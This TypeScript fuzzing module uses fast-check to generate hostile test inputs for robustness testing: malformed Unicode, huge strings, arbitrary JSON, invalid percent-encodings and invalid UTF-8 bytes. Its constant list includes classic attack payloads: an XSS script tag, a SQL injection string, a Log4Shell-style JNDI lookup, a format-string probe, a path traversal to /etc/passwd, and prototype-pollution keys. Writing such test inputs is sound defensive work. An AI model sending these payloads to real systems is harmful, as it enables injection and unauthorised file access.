/**
 * Hostile values for fuzzing: strings that break naive code (lone surrogates, NUL, RTL overrides, emoji
 * sequences, 100k characters), JSON of every shape, and the raw byte forms (percent-encodings, invalid
 * UTF-8) that only a raw client can send.
 */
import fc from 'fast-check';

const nastyConstants = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  'x\ud83dy',
  '\u202eevil\u202c',
  '\u200b\u200c\u200d\ufeff',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0301\u0301',
  '𝕏𝔸𝕄ℒ',
  'ﷺ',
  '\r\n\t\v\f',
  '"\'\\`',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, sent as text on purpose
  '${jndi:ldap://x}',
  '%s%n%x',
  '../../etc/passwd',
  'TENANT#tenant-b#BENCH#x',
  '#',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e400',
  '0x10',
  'true',
] as const;

/** A string that is hostile in one of many ways; at most `huge` characters long. */
export function nastyString(options: { huge?: number } = {}): fc.Arbitrary<string> {
  const huge = options.huge ?? 100_000;
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...nastyConstants) },
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 40 }) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('x', 'é', '😀', '\u0000', '\ud800', 'ab'), fc.integer({ min: Math.min(1000, huge), max: huge }))
        .map(([unit, length]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length)),
    },
  );
}

/** Any JSON value, sometimes with hostile strings as values and keys. */
export function anyJson(maxDepth = 4): fc.Arbitrary<unknown> {
  const leaf = fc.oneof(
    fc.constant(null),
    fc.boolean(),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constantFrom(0, -0, 2 ** 53, -(2 ** 53) - 2, 1e308, 5e-324),
    nastyString({ huge: 5000 }),
  );
  return fc.letrec<{ value: unknown }>((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', maxDepth },
      leaf,
      fc.array(tie('value'), { maxLength: 5 }),
      fc.dictionary(fc.oneof(fc.string({ maxLength: 10 }), nastyString({ huge: 100 })), tie('value'), { maxKeys: 5 }),
    ),
  })).value;
}

/**
 * Percent-encodes a string as its UTF-8 bytes, everything but unreserved characters. A lone surrogate has
 * no UTF-8 form, so it goes as U+FFFD, as a browser would send it.
 */
export function percentEncode(text: string): string {
  let out = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const char = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** Encoded forms no decoder accepts, or accepts only with replacement characters. */
export const brokenEncodings = [
  '%',
  '%G0',
  '%C3',
  '%E0%A4%A',
  '%ED%A0%80', // a surrogate in CESU-8: not UTF-8
  '%FF%FE',
  '%C0%80', // overlong NUL
  '%F4%90%80%80', // above U+10FFFF
  '%00',
  '%2F',
  '%2E%2E',
  '..',
  '.',
  '+',
  '%20',
] as const;

export function isDecodable(encoded: string): boolean {
  try {
    decodeURIComponent(encoded);
    return true;
  } catch {
    return false;
  }
}

/** Bytes that are not UTF-8 at all, to splice into bodies. */
export const invalidUtf8 = [
  Buffer.from([0xff]),
  Buffer.from([0xfe, 0xff]),
  Buffer.from([0xc0, 0x80]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Buffer.from([0xe2, 0x82]),
] as const;
